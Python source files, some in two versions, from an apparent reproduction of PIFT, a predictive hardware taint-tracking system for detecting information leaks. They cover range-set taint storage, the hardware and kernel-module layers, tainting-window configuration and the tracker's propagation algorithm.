        numpy mirror (concatenate, sort by start, coalesce on a running
        ``maximum.accumulate`` of the ends) committed back through the
        version counter — the mirror is written back directly, so the
        next :meth:`as_arrays` call pays no rebuild.

        Returns the *extent* ``(lo, hi)``: the smallest address span
        covering every stored range the batch touched (callers use it to
        patch cached overlap masks — anything outside the extent kept
        its coverage).  Returns ``None`` for an empty batch.

        Parity note: per-step totals are **not** reported.  Callers that
        need per-mutation high-water bookkeeping (timeline points, the
        non-monotone ``max_range_count``) must fall back to sequential
        :meth:`add` calls when intermediate counts could be observable.
        """
        if not items:
            return None
        import numpy

        new_starts = numpy.fromiter(
            (s for s, _ in items), numpy.int64, len(items)
        )
        new_ends = numpy.fromiter(
            (e for _, e in items), numpy.int64, len(items)
        )
        cur_starts, cur_ends = self.as_arrays()
        all_starts = numpy.concatenate([cur_starts, new_starts])
        all_ends = numpy.concatenate([cur_ends, new_ends])
        order = numpy.argsort(all_starts, kind="stable")
        sorted_starts = all_starts[order]
        run_ends = numpy.maximum.accumulate(all_ends[order])
        # A new coalesced range begins wherever the next start clears the
        # running end by more than adjacency (gap >= 1 uncovered byte).
        breaks = numpy.flatnonzero(sorted_starts[1:] > run_ends[:-1] + 1) + 1
        first = numpy.concatenate([[0], breaks])
        merged_starts = sorted_starts[first]
        merged_ends = numpy.concatenate([run_ends[breaks - 1], run_ends[-1:]])
        self._starts = merged_starts.tolist()
        self._ends = merged_ends.tolist()
        self._total = int((merged_ends - merged_starts + 1).sum())
        self._version += 1
        self._np_mirror = (self._version, merged_starts, merged_ends)
        hull_lo = int(new_starts.min())
        hull_hi = int(new_ends.max())
        i0 = int(numpy.searchsorted(merged_ends, hull_lo, side="left"))
        i1 = int(numpy.searchsorted(merged_starts, hull_hi, side="right")) - 1
        return (int(merged_starts[i0]), int(merged_ends[i1]))

    def remove_many(
        self, items: List[Tuple[int, int]]
    ) -> List[Tuple[bool, int, int]]:
        """Untaint each ``(start, end)`` pair in sequence, one version bump.

        Exactly equivalent to :meth:`remove` per pair **in order** —
        order matters for removes, because an earlier untaint can turn a
        later candidate into a no-op.  Each step reports
        ``(effective, total_size_after, range_count_after)`` so callers
        can reproduce the scalar loop's per-mutation high-water
        bookkeeping (``range_count`` can *rise* when a remove splits a
        stored range, so per-step values are required for parity).
        """
        steps: List[Tuple[bool, int, int]] = []
        mutated = False
        for start, end in items:
            lo = bisect.bisect_left(self._ends, start)
            hi = bisect.bisect_right(self._starts, end)
            if lo >= hi:
                steps.append((False, self._total, len(self._starts)))
                continue
            removed = 0
            for i in range(lo, hi):
                removed += self._ends[i] - self._starts[i] + 1
            new_starts: List[int] = []
            new_ends: List[int] = []
            if self._starts[lo] < start:
                new_starts.append(self._starts[lo])
                new_ends.append(start - 1)
            if end < self._ends[hi - 1]:
                new_starts.append(end + 1)
                new_ends.append(self._ends[hi - 1])
            self._starts[lo:hi] = new_starts
            self._ends[lo:hi] = new_ends
            self._total += sum(
                e - s + 1 for s, e in zip(new_starts, new_ends)
            ) - removed
            mutated = True
            steps.append((True, self._total, len(self._starts)))
        if mutated:
            self._version += 1
        return steps

    def remove(self, item: AddressRange) -> None:
        """Untaint ``item``, splitting stored ranges that straddle it."""
        lo = bisect.bisect_left(self._ends, item.start)
        hi = bisect.bisect_right(self._starts, item.end)
        if lo >= hi:
            return
        removed = 0
        for i in range(lo, hi):
            removed += self._ends[i] - self._starts[i] + 1
        new_starts: List[int] = []
        new_ends: List[int] = []
        if self._starts[lo] < item.start:
            new_starts.append(self._starts[lo])
            new_ends.append(item.start - 1)
        if item.end < self._ends[hi - 1]:
            new_starts.append(item.end + 1)
            new_ends.append(self._ends[hi - 1])
        self._starts[lo:hi] = new_starts
        self._ends[lo:hi] = new_ends
        self._total += sum(
            e - s + 1 for s, e in zip(new_starts, new_ends)
        ) - removed
        self._version += 1

    def clear(self) -> None:
        self._starts.clear()
        self._ends.clear()
        self._total = 0
        self._version += 1

    def copy(self) -> "RangeSet":
        clone = RangeSet()
        clone._starts = list(self._starts)
        clone._ends = list(self._ends)
        clone._total = self._total
        return clone

    # -- fault injection hook --------------------------------------------

    def drop_nth_range(self, n: int) -> Optional[AddressRange]:
        """Discard the ``n``-th stored range (modulo size); returns it.

        The generic taint-state loss fault: a tainted range vanishes
        wholesale, as when a bounded hardware storage drops an entry
        (:mod:`repro.core.faults`).  Returns ``None`` on an empty set.
        """
        if not self._starts:
            return None
        idx = n % len(self._starts)
        victim = AddressRange(self._starts[idx], self._ends[idx])
        del self._starts[idx]
        del self._ends[idx]
        self._total -= victim.size
        self._version += 1
        return victim

    # -- checkpoint / restore --------------------------------------------

    def snapshot(self) -> dict:
        """JSON-compatible checkpoint of the exact stored ranges."""
        return {"starts": list(self._starts), "ends": list(self._ends)}

    def restore(self, snapshot: dict) -> None:
        """Replace contents with a :meth:`snapshot` payload, exactly."""
        self._starts = [int(v) for v in snapshot["starts"]]
        self._ends = [int(v) for v in snapshot["ends"]]
        self._total = sum(
            e - s + 1 for s, e in zip(self._starts, self._ends)
        )
        self._version += 1

    def __getstate__(self) -> dict:
        # The numpy mirror is derived data; drop it so pickled range sets
        # (sweep-worker payloads) don't carry the arrays twice.
        state = self.__dict__.copy()
        state["_np_mirror"] = None
        return state

"""The PIFT hardware module and CPU front-end logic (paper §3.3, Figure 5).

The *front end* sits in the CPU: it watches the instruction unit, keeps a
per-process instruction counter (indexed by PID / TTBR), and emits an event
to the PIFT hardware module for every memory-access instruction.  The
*hardware module* runs the taint-propagation heuristic against its taint
storage while the memory subsystem services the access, and exposes an
array of memory-mapped command ports through which the software stack
registers source ranges, queries sink ranges, and sets ``NI``/``NT``.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Callable, Dict, Optional, Union

from repro.core.config import PIFTConfig
from repro.core.events import AccessKind, MemoryAccess
from repro.core.ranges import AddressRange, RangeSet
from repro.core.tracker import PIFTTracker, StateFactory, TrackerStats


class Command(enum.Enum):
    """Operations available on the module's memory-mapped command ports."""

    REGISTER = "register"  # taint a new address range (source)
    CHECK = "check"  # query a range's taint (sink)
    CONFIGURE = "configure"  # set tainting-window parameters


@dataclass(frozen=True)
class CommandRequest:
    """One command written to the module's port array."""

    command: Command
    pid: int = 0
    address_range: Optional[AddressRange] = None
    window_size: Optional[int] = None
    max_propagations: Optional[int] = None


@dataclass(frozen=True)
class CommandResponse:
    """The module's reply on the response port."""

    ok: bool
    tainted: Optional[bool] = None


class PIFTHardwareModule:
    """On-chip PIFT engine: taint storage + propagation controller.

    The module is deliberately passive — it only reacts to front-end memory
    events and software commands, mirroring the paper's observation that
    "the SW module does not interact with the HW module most of the time;
    taint lookup and propagation operations are transparent to the software
    side."
    """

    def __init__(
        self,
        config: PIFTConfig,
        state_factory: StateFactory = RangeSet,
        record_timeline: bool = False,
        telemetry=None,
        faults=None,
    ) -> None:
        self._tracker = PIFTTracker(
            config,
            state_factory=state_factory,
            record_timeline=record_timeline,
            telemetry=telemetry,
        )
        # Fault injection mirrors the telemetry shadow-method pattern:
        # the faulted variant is bound over ``on_memory_event`` as an
        # instance attribute only when a plan is supplied, so the
        # fault-free event path stays byte-identical.
        self._injector = None
        if faults is not None:
            self._injector = faults.injector(telemetry=telemetry)
            self.on_memory_event = self._on_memory_event_with_faults

    @property
    def config(self) -> PIFTConfig:
        return self._tracker.config

    @property
    def stats(self) -> TrackerStats:
        return self._tracker.stats

    @property
    def tracker(self) -> PIFTTracker:
        return self._tracker

    @property
    def fault_stats(self):
        """The injector's FaultStats, or None when no plan is active."""
        return self._injector.stats if self._injector is not None else None

    def on_memory_event(self, event: MemoryAccess) -> None:
        """Front-end entry point: one load/store plus its metadata."""
        self._tracker.observe(event)

    def _on_memory_event_with_faults(self, event: MemoryAccess) -> None:
        """Fault-path shadow of :meth:`on_memory_event` (instance-bound)."""
        injector = self._injector
        for delivered in injector.feed(event):
            self._tracker.observe(delivered)
            injector.state_faults(self._tracker, delivered.pid)

    def execute(self, request: CommandRequest) -> CommandResponse:
        """Software entry point: dispatch one memory-mapped command."""
        if request.command is Command.REGISTER:
            if request.address_range is None:
                return CommandResponse(ok=False)
            self._tracker.taint_source(request.address_range, pid=request.pid)
            return CommandResponse(ok=True)
        if request.command is Command.CHECK:
            if request.address_range is None:
                return CommandResponse(ok=False)
            tainted = self._tracker.check(request.address_range, pid=request.pid)
            return CommandResponse(ok=True, tainted=tainted)
        if request.command is Command.CONFIGURE:
            window = request.window_size or self._tracker.config.window_size
            cap = request.max_propagations or self._tracker.config.max_propagations
            self._tracker.config = PIFTConfig(
                window_size=window,
                max_propagations=cap,
                untainting=self._tracker.config.untainting,
            )
            return CommandResponse(ok=True)
        return CommandResponse(ok=False)


class PIFTFrontEnd:
    """CPU-side logic: per-process instruction counters and event generation.

    The hosting CPU calls :meth:`on_instruction` for every retired
    instruction; memory instructions additionally pass their access kind and
    address range.  The front end forwards a fully-formed
    :class:`MemoryAccess` to the hardware module.
    """

    def __init__(self, module: PIFTHardwareModule) -> None:
        self._module = module
        self._counters: Dict[int, int] = {}
        self._current_pid = 0

    @property
    def current_pid(self) -> int:
        return self._current_pid

    def context_switch(self, pid: int) -> None:
        """OS scheduled a different process; later events carry its PID."""
        self._current_pid = pid

    def instruction_count(self, pid: Optional[int] = None) -> int:
        """Retired-instruction count for ``pid`` (default: current)."""
        key = self._current_pid if pid is None else pid
        return self._counters.get(key, 0)

    def on_instruction(
        self,
        kind: Optional[AccessKind] = None,
        address_range: Optional[AddressRange] = None,
    ) -> int:
        """Record one retired instruction; emit an event if it was a memory op.

        Returns the instruction's per-process sequence number.
        """
        pid = self._current_pid
        index = self._counters.get(pid, 0)
        self._counters[pid] = index + 1
        if kind is not None:
            if address_range is None:
                raise ValueError("memory instruction requires an address range")
            self._module.on_memory_event(
                MemoryAccess(kind, address_range, index, pid)
            )
        return index

"""PIFT configuration — the tainting-window parameters and feature toggles.

The paper evaluates ``NI`` (tainting-window size, in instructions) over
``[1, 20]`` and ``NT`` (maximum taint propagations per window) over
``[1, 10]``, finding 98% DroidBench accuracy at ``(NI, NT) = (13, 3)`` and
100% at ``(18, 3)``; the seven malware samples are all caught at ``(3, 2)``.
Untainting (removing the target range of out-of-window stores) is the
paper's §3.2 option that cuts tainted-region size ~26x (Figure 18).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, replace
from typing import Optional


@dataclass(frozen=True)
class PIFTConfig:
    """Parameters of the taint-propagation heuristic (Algorithm 1).

    Attributes:
        window_size: ``NI`` — number of instructions after a tainted load
            during which stores are taint candidates.
        max_propagations: ``NT`` — upper bound on the number of stores
            tainted inside one tainting window.
        untainting: when True, a store that falls outside every tainting
            window (or past the NT cap) has its target range *removed* from
            the taint state, modelling overwrite with non-sensitive data.
        vectorized: when True (the default) the tracker's batched column
            path may use the numpy pre-filter kernel
            (:mod:`repro.core.vectorized`) to skip runs of provably
            irrelevant events.  An execution-strategy flag, not a
            semantics knob — results are bit-identical either way
            (``tests/property/test_batch_parity.py``); the CLI exposes
            ``--no-vectorized`` as the escape hatch.
    """

    window_size: int = 13
    max_propagations: int = 3
    untainting: bool = True
    vectorized: bool = True

    def __post_init__(self) -> None:
        if self.window_size < 1:
            raise ValueError(f"window_size (NI) must be >= 1, got {self.window_size}")
        if self.max_propagations < 1:
            raise ValueError(
                f"max_propagations (NT) must be >= 1, got {self.max_propagations}"
            )

    @property
    def ni(self) -> int:
        """Paper notation alias for :attr:`window_size`."""
        return self.window_size

    @property
    def nt(self) -> int:
        """Paper notation alias for :attr:`max_propagations`."""
        return self.max_propagations

    def with_untainting(self, enabled: bool) -> "PIFTConfig":
        return replace(self, untainting=enabled)

    def __str__(self) -> str:
        tag = "untaint" if self.untainting else "no-untaint"
        return f"PIFT(NI={self.window_size}, NT={self.max_propagations}, {tag})"


class OverflowPolicy(enum.Enum):
    """What the buffered design point does when its event FIFO is full.

    The paper's §1 buffered alternative never specifies the overflow
    behaviour; these are the four realistic hardware responses:

    * ``BLOCK`` — stall the front end and drain a batch (today's
      drain-on-full; prevention-friendly, costs latency);
    * ``DROP_OLDEST`` — overwrite the head of the FIFO (a ring buffer);
      the tracker loses the *stalest* events;
    * ``DROP_NEWEST`` — refuse the incoming event (a guarded FIFO); the
      tracker loses the *freshest* events;
    * ``SPILL`` — write a batch of the oldest events back to main
      memory (unbounded secondary queue); nothing is lost, but drains
      must also work through the spill.
    """

    BLOCK = "block"
    DROP_OLDEST = "drop_oldest"
    DROP_NEWEST = "drop_newest"
    SPILL = "spill"


@dataclass(frozen=True)
class BufferConfig:
    """Parameters of the §1 buffered (off-critical-path) design point.

    Attributes:
        capacity: maximum buffered events in the hardware FIFO.
        drain_batch: events processed per drain step (and per spill
            burst under :attr:`OverflowPolicy.SPILL`).
        policy: overflow behaviour when the FIFO is full.
        high_watermark: FIFO depth at which backpressure engages
            (default: ``capacity``).
        low_watermark: depth at which backpressure releases (default:
            half the high watermark).
    """

    capacity: int = 1024
    drain_batch: int = 256
    policy: OverflowPolicy = OverflowPolicy.BLOCK
    high_watermark: Optional[int] = None
    low_watermark: Optional[int] = None

    def __post_init__(self) -> None:
        if self.capacity < 1 or self.drain_batch < 1:
            raise ValueError("capacity and drain_batch must be >= 1")
        high = self.capacity if self.high_watermark is None else self.high_watermark
        low = high // 2 if self.low_watermark is None else self.low_watermark
        if not 1 <= high <= self.capacity:
            raise ValueError(
                f"high_watermark must be in [1, capacity], got {high}"
            )
        if not 0 <= low < high:
            raise ValueError(
                f"low_watermark must be in [0, high_watermark), got {low}"
            )

    @property
    def effective_high_watermark(self) -> int:
        return self.capacity if self.high_watermark is None else self.high_watermark

    @property
    def effective_low_watermark(self) -> int:
        if self.low_watermark is None:
            return self.effective_high_watermark // 2
        return self.low_watermark


#: The accuracy-optimal setting from the paper's Figure 11 discussion.
PAPER_DEFAULT = PIFTConfig(window_size=13, max_propagations=3)

#: The setting at which DroidBench accuracy reaches 100% in the paper.
PAPER_PERFECT = PIFTConfig(window_size=18, max_propagations=3)

#: The small window that already catches all seven real-world malware.
PAPER_MALWARE_MINIMUM = PIFTConfig(window_size=3, max_propagations=2)

"""PIFT configuration — the tainting-window parameters and feature toggles.

The paper evaluates ``NI`` (tainting-window size, in instructions) over
``[1, 20]`` and ``NT`` (maximum taint propagations per window) over
``[1, 10]``, finding 98% DroidBench accuracy at ``(NI, NT) = (13, 3)`` and
100% at ``(18, 3)``; the seven malware samples are all caught at ``(3, 2)``.
Untainting (removing the target range of out-of-window stores) is the
paper's §3.2 option that cuts tainted-region size ~26x (Figure 18).
"""

from __future__ import annotations

from dataclasses import dataclass, replace


@dataclass(frozen=True)
class PIFTConfig:
    """Parameters of the taint-propagation heuristic (Algorithm 1).

    Attributes:
        window_size: ``NI`` — number of instructions after a tainted load
            during which stores are taint candidates.
        max_propagations: ``NT`` — upper bound on the number of stores
            tainted inside one tainting window.
        untainting: when True, a store that falls outside every tainting
            window (or past the NT cap) has its target range *removed* from
            the taint state, modelling overwrite with non-sensitive data.
    """

    window_size: int = 13
    max_propagations: int = 3
    untainting: bool = True

    def __post_init__(self) -> None:
        if self.window_size < 1:
            raise ValueError(f"window_size (NI) must be >= 1, got {self.window_size}")
        if self.max_propagations < 1:
            raise ValueError(
                f"max_propagations (NT) must be >= 1, got {self.max_propagations}"
            )

    @property
    def ni(self) -> int:
        """Paper notation alias for :attr:`window_size`."""
        return self.window_size

    @property
    def nt(self) -> int:
        """Paper notation alias for :attr:`max_propagations`."""
        return self.max_propagations

    def with_untainting(self, enabled: bool) -> "PIFTConfig":
        return replace(self, untainting=enabled)

    def __str__(self) -> str:
        tag = "untaint" if self.untainting else "no-untaint"
        return f"PIFT(NI={self.window_size}, NT={self.max_propagations}, {tag})"


#: The accuracy-optimal setting from the paper's Figure 11 discussion.
PAPER_DEFAULT = PIFTConfig(window_size=13, max_propagations=3)

#: The setting at which DroidBench accuracy reaches 100% in the paper.
PAPER_PERFECT = PIFTConfig(window_size=18, max_propagations=3)

#: The small window that already catches all seven real-world malware.
PAPER_MALWARE_MINIMUM = PIFTConfig(window_size=3, max_propagations=2)

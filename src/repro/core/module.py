"""PIFT Module — the Linux-kernel layer of the paper's Figure 3.

The kernel module brokers between the runtime (PIFT Native, which speaks
*addresses*) and the PIFT hardware module (which speaks memory-mapped
commands).  On a sink check that finds taint, it raises an event to the
upper layer to report the potential leakage.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, List, Optional

from repro.core.hw import Command, CommandRequest, PIFTHardwareModule
from repro.core.ranges import AddressRange


@dataclass(frozen=True)
class LeakEvent:
    """Raised to the upper layers when a checked sink range is tainted."""

    pid: int
    address_range: AddressRange
    sink_description: str


class PIFTKernelModule:
    """Register sensitive address ranges and query taint via the HW module."""

    def __init__(self, hardware: PIFTHardwareModule) -> None:
        self._hardware = hardware
        self._listeners: List[Callable[[LeakEvent], None]] = []
        self.leak_events: List[LeakEvent] = []

    @property
    def hardware(self) -> PIFTHardwareModule:
        return self._hardware

    def subscribe(self, listener: Callable[[LeakEvent], None]) -> None:
        """Upper layers subscribe to be informed of potential leakages."""
        self._listeners.append(listener)

    def register_range(self, address_range: AddressRange, pid: int = 0) -> None:
        """Source path: taint a sensitive range in the HW taint storage."""
        response = self._hardware.execute(
            CommandRequest(Command.REGISTER, pid=pid, address_range=address_range)
        )
        if not response.ok:
            raise RuntimeError(f"hardware rejected REGISTER for {address_range}")

    def check_range(
        self,
        address_range: AddressRange,
        pid: int = 0,
        sink_description: str = "",
    ) -> bool:
        """Sink path: query taint; emit a :class:`LeakEvent` when positive."""
        response = self._hardware.execute(
            CommandRequest(Command.CHECK, pid=pid, address_range=address_range)
        )
        if not response.ok:
            raise RuntimeError(f"hardware rejected CHECK for {address_range}")
        if response.tainted:
            event = LeakEvent(pid, address_range, sink_description)
            self.leak_events.append(event)
            for listener in self._listeners:
                listener(event)
        return bool(response.tainted)

    def configure(self, window_size: int, max_propagations: int) -> None:
        """Set the tainting-window parameters NI and NT."""
        response = self._hardware.execute(
            CommandRequest(
                Command.CONFIGURE,
                window_size=window_size,
                max_propagations=max_propagations,
            )
        )
        if not response.ok:
            raise RuntimeError("hardware rejected CONFIGURE")

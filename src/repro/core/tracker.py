"""The PIFT taint-propagation heuristic — Algorithm 1 of the paper.

Conceptually: a memory load that overlaps a tainted address range opens a
*Tainting Window* (TW) of ``NI`` instructions, measured from the tainted
load.  The target address ranges of up to ``NT`` store instructions inside
the window are tainted.  A store outside every window (or past the NT cap)
is optionally *untainted* — its target range is removed from the taint
state, because it was likely overwritten with non-sensitive data.

The tracker is process-aware: the PIFT front-end maintains a per-process
instruction counter (indexed by PID / TTBR per §3.3), so window state and
taint state are both kept per PID.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, Iterable, List, Optional, Tuple

from repro.core.config import PIFTConfig
from repro.core.events import MemoryAccess
from repro.core.ranges import AddressRange, RangeSet


#: Any object with the RangeSet mutation/query surface can back the tracker —
#: the software-reference ``RangeSet`` or a hardware model from
#: :mod:`repro.core.taint_storage`.
StateFactory = Callable[[], "TaintStateLike"]


class TaintStateLike:
    """Structural interface the tracker requires of its taint state."""

    def overlaps(self, query: AddressRange) -> bool:  # pragma: no cover
        raise NotImplementedError

    def add(self, item: AddressRange) -> None:  # pragma: no cover
        raise NotImplementedError

    def remove(self, item: AddressRange) -> None:  # pragma: no cover
        raise NotImplementedError

    @property
    def total_size(self) -> int:  # pragma: no cover
        raise NotImplementedError

    @property
    def range_count(self) -> int:  # pragma: no cover
        raise NotImplementedError


@dataclass
class TimelinePoint:
    """One sample of taint-state evolution, taken at each taint/untaint op."""

    instruction_index: int
    tainted_bytes: int
    range_count: int
    cumulative_operations: int


@dataclass
class TrackerStats:
    """Counters and high-water marks accumulated while tracking.

    ``taint_operations`` and ``untaint_operations`` together are the
    operation count of the paper's Figure 16; ``max_tainted_bytes`` is
    Figure 14/15/18's metric and ``max_range_count`` Figure 17/19's.
    An untaint is only counted as an operation when it actually removed
    tainted bytes (a store over never-tainted memory is a no-op).
    """

    instructions_observed: int = 0
    loads_observed: int = 0
    stores_observed: int = 0
    tainted_loads: int = 0
    taint_operations: int = 0
    untaint_operations: int = 0
    max_tainted_bytes: int = 0
    max_range_count: int = 0
    timeline: List[TimelinePoint] = field(default_factory=list)

    @property
    def total_operations(self) -> int:
        return self.taint_operations + self.untaint_operations


@dataclass
class _WindowState:
    """Per-process Algorithm-1 state: LTLT and the propagation counter."""

    last_tainted_load: Optional[int] = None  # LTLT; None encodes -infinity
    propagations: int = 0  # n_t


class PIFTTracker:
    """Predictive information-flow tracker over a load/store event stream.

    Usage mirrors the paper's software stack: *register* a sensitive source
    range with :meth:`taint_source`, feed the instruction stream's memory
    events through :meth:`observe` (or :meth:`run`), then *check* a sink
    argument's range with :meth:`check`.

    Args:
        config: the ``(NI, NT, untainting)`` parameters.
        state_factory: builds the per-process taint state; defaults to the
            unbounded software :class:`~repro.core.ranges.RangeSet`.  Pass a
            bounded hardware model from :mod:`repro.core.taint_storage` to
            study capacity effects.
        record_timeline: when True, every taint/untaint operation appends a
            :class:`TimelinePoint` (needed for the Figure 15/16 curves;
            off by default to keep tracking cheap).
    """

    def __init__(
        self,
        config: PIFTConfig,
        state_factory: StateFactory = RangeSet,
        record_timeline: bool = False,
    ) -> None:
        self.config = config
        self._state_factory = state_factory
        self._states: Dict[int, TaintStateLike] = {}
        self._windows: Dict[int, _WindowState] = {}
        self.stats = TrackerStats()
        self._record_timeline = record_timeline

    # -- taint state access ------------------------------------------------

    def state(self, pid: int = 0) -> TaintStateLike:
        """The taint state for process ``pid``, created on first use."""
        if pid not in self._states:
            self._states[pid] = self._state_factory()
            self._windows[pid] = _WindowState()
        return self._states[pid]

    def taint_source(self, address_range: AddressRange, pid: int = 0) -> None:
        """Source registration: mark ``address_range`` sensitive (Figure 3)."""
        self.state(pid).add(address_range)
        self._after_mutation(pid, instruction_index=self.stats.instructions_observed)

    def check(self, address_range: AddressRange, pid: int = 0) -> bool:
        """Sink query: is any byte of ``address_range`` tainted?"""
        return self.state(pid).overlaps(address_range)

    @property
    def tainted_bytes(self) -> int:
        return sum(s.total_size for s in self._states.values())

    @property
    def range_count(self) -> int:
        return sum(s.range_count for s in self._states.values())

    # -- Algorithm 1 ---------------------------------------------------------

    def observe(self, event: MemoryAccess) -> None:
        """Process one memory event per Algorithm 1.

        The event's ``instruction_index`` is the per-process instruction
        sequence number *k*; it must be non-decreasing per PID.
        """
        state = self.state(event.pid)
        window = self._windows[event.pid]
        k = event.instruction_index
        if k >= self.stats.instructions_observed:
            self.stats.instructions_observed = k + 1

        if event.is_load:
            self.stats.loads_observed += 1
            if state.overlaps(event.address_range):
                # Tainted load: start (or restart) the tainting window.
                window.last_tainted_load = k
                window.propagations = 0
                self.stats.tainted_loads += 1
        else:
            self.stats.stores_observed += 1
            in_window = (
                window.last_tainted_load is not None
                and k <= window.last_tainted_load + self.config.window_size
            )
            if in_window and window.propagations < self.config.max_propagations:
                state.add(event.address_range)
                window.propagations += 1
                self.stats.taint_operations += 1
                self._after_mutation(event.pid, k)
            elif self.config.untainting:
                if state.overlaps(event.address_range):
                    state.remove(event.address_range)
                    self.stats.untaint_operations += 1
                    self._after_mutation(event.pid, k)

    def run(self, events: Iterable[MemoryAccess]) -> TrackerStats:
        """Feed a whole event stream through :meth:`observe`."""
        for event in events:
            self.observe(event)
        return self.stats

    # -- bookkeeping -----------------------------------------------------

    def _after_mutation(self, pid: int, instruction_index: int) -> None:
        size = self.tainted_bytes
        count = self.range_count
        if size > self.stats.max_tainted_bytes:
            self.stats.max_tainted_bytes = size
        if count > self.stats.max_range_count:
            self.stats.max_range_count = count
        if self._record_timeline:
            self.stats.timeline.append(
                TimelinePoint(
                    instruction_index=instruction_index,
                    tainted_bytes=size,
                    range_count=count,
                    cumulative_operations=self.stats.total_operations,
                )
            )


def track_trace(
    events: Iterable[MemoryAccess],
    sources: Iterable[Tuple[AddressRange, int]],
    config: PIFTConfig,
    record_timeline: bool = False,
) -> PIFTTracker:
    """One-shot helper: taint ``sources`` (range, pid pairs), run ``events``."""
    tracker = PIFTTracker(config, record_timeline=record_timeline)
    for address_range, pid in sources:
        tracker.taint_source(address_range, pid=pid)
    tracker.run(events)
    return tracker

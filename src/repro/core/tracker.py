"""The PIFT taint-propagation heuristic — Algorithm 1 of the paper.

Conceptually: a memory load that overlaps a tainted address range opens a
*Tainting Window* (TW) of ``NI`` instructions, measured from the tainted
load.  The target address ranges of up to ``NT`` store instructions inside
the window are tainted.  A store outside every window (or past the NT cap)
is optionally *untainted* — its target range is removed from the taint
state, because it was likely overwritten with non-sensitive data.

The tracker is process-aware: the PIFT front-end maintains a per-process
instruction counter (indexed by PID / TTBR per §3.3), so window state and
taint state are both kept per PID.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable, Dict, Iterable, List, Optional, Tuple

from repro.core import vectorized
from repro.core.colours import ColourRangeSet, ColourSpace
from repro.core.config import PIFTConfig
from repro.core.events import EventColumns, EventTrace, MemoryAccess
from repro.core.ranges import AddressRange, RangeSet

if TYPE_CHECKING:  # pragma: no cover - import cycle guard for annotations
    from repro.telemetry import Telemetry


#: Below this many events the numpy kernel's per-call setup outweighs the
#: scalar loop; short slices (tiny replay segments between source/sink
#: boundaries, whole DroidBench-app traces) stay scalar.  Long traces —
#: where skipping can amortise — go through the kernel, which itself
#: bails back to scalar if the slice turns out to be taint-dense.
_VECTORIZED_MIN_EVENTS = 512

#: Any object with the RangeSet mutation/query surface can back the tracker —
#: the software-reference ``RangeSet`` or a hardware model from
#: :mod:`repro.core.taint_storage`.
StateFactory = Callable[[], "TaintStateLike"]


class TaintStateLike:
    """Structural interface the tracker requires of its taint state."""

    def overlaps(self, query: AddressRange) -> bool:  # pragma: no cover
        raise NotImplementedError

    def add(self, item: AddressRange) -> None:  # pragma: no cover
        raise NotImplementedError

    def remove(self, item: AddressRange) -> None:  # pragma: no cover
        raise NotImplementedError

    @property
    def total_size(self) -> int:  # pragma: no cover
        raise NotImplementedError

    @property
    def range_count(self) -> int:  # pragma: no cover
        raise NotImplementedError

    def snapshot(self) -> dict:  # pragma: no cover - checkpoint support
        raise NotImplementedError

    def restore(self, snapshot: dict) -> None:  # pragma: no cover
        raise NotImplementedError


@dataclass
class TimelinePoint:
    """One sample of taint-state evolution, taken at each taint/untaint op."""

    instruction_index: int
    tainted_bytes: int
    range_count: int
    cumulative_operations: int


@dataclass
class TrackerStats:
    """Counters and high-water marks accumulated while tracking.

    ``taint_operations`` and ``untaint_operations`` together are the
    operation count of the paper's Figure 16; ``max_tainted_bytes`` is
    Figure 14/15/18's metric and ``max_range_count`` Figure 17/19's.
    An untaint is only counted as an operation when it actually removed
    tainted bytes (a store over never-tainted memory is a no-op).

    ``instructions_observed`` sums the per-PID instruction high-water
    marks (instruction indices are per process, §3.3), so multi-process
    traces count every process's instructions, not just the busiest one's.
    """

    instructions_observed: int = 0
    loads_observed: int = 0
    stores_observed: int = 0
    tainted_loads: int = 0
    taint_operations: int = 0
    untaint_operations: int = 0
    max_tainted_bytes: int = 0
    max_range_count: int = 0
    timeline: List[TimelinePoint] = field(default_factory=list)

    @property
    def total_operations(self) -> int:
        return self.taint_operations + self.untaint_operations

    @classmethod
    def from_dict(cls, payload: dict) -> "TrackerStats":
        """Inverse of :meth:`as_dict` (checkpoint restore)."""
        return cls(
            instructions_observed=int(payload["instructions_observed"]),
            loads_observed=int(payload["loads_observed"]),
            stores_observed=int(payload["stores_observed"]),
            tainted_loads=int(payload["tainted_loads"]),
            taint_operations=int(payload["taint_operations"]),
            untaint_operations=int(payload["untaint_operations"]),
            max_tainted_bytes=int(payload["max_tainted_bytes"]),
            max_range_count=int(payload["max_range_count"]),
            timeline=[
                TimelinePoint(
                    instruction_index=int(p["instruction_index"]),
                    tainted_bytes=int(p["tainted_bytes"]),
                    range_count=int(p["range_count"]),
                    cumulative_operations=int(p["cumulative_operations"]),
                )
                for p in payload["timeline"]
            ],
        )

    def as_dict(self) -> dict:
        """JSON-ready form (feeds the telemetry/CLI exporters)."""
        return {
            "instructions_observed": self.instructions_observed,
            "loads_observed": self.loads_observed,
            "stores_observed": self.stores_observed,
            "tainted_loads": self.tainted_loads,
            "taint_operations": self.taint_operations,
            "untaint_operations": self.untaint_operations,
            "total_operations": self.total_operations,
            "max_tainted_bytes": self.max_tainted_bytes,
            "max_range_count": self.max_range_count,
            "timeline": [
                {
                    "instruction_index": p.instruction_index,
                    "tainted_bytes": p.tainted_bytes,
                    "range_count": p.range_count,
                    "cumulative_operations": p.cumulative_operations,
                }
                for p in self.timeline
            ],
        }


@dataclass
class _WindowState:
    """Per-process Algorithm-1 state: LTLT and the propagation counter."""

    last_tainted_load: Optional[int] = None  # LTLT; None encodes -infinity
    propagations: int = 0  # n_t
    #: Per-PID instruction high-water mark (max index + 1).  Instruction
    #: indices are per process (§3.3), so the tracker-wide
    #: ``stats.instructions_observed`` is the *sum* of these, never a
    #: single global high-water mark.
    instructions_retired: int = 0
    #: Telemetry-only bookkeeping: has a window_open event been emitted for
    #: the currently live window?  Never touched when telemetry is off.
    telemetry_open: bool = False
    #: Colour mask carried by the live window (the OR of the masks of
    #: every tainted range the window-opening load overlapped).  Only the
    #: coloured tracker reads or writes it; the plain tracker leaves it 0.
    colour_mask: int = 0


class _TrackerInstruments:
    """Bound metric handles, resolved once so the hot path skips registry
    lookups.  Built only when the tracker has an active telemetry hub."""

    __slots__ = (
        "events", "loads", "stores", "tainted_loads", "taint_ops",
        "untaint_ops", "windows_opened", "windows_closed", "sources",
        "checks", "tainted_bytes", "range_count",
    )

    def __init__(self, telemetry: "Telemetry") -> None:
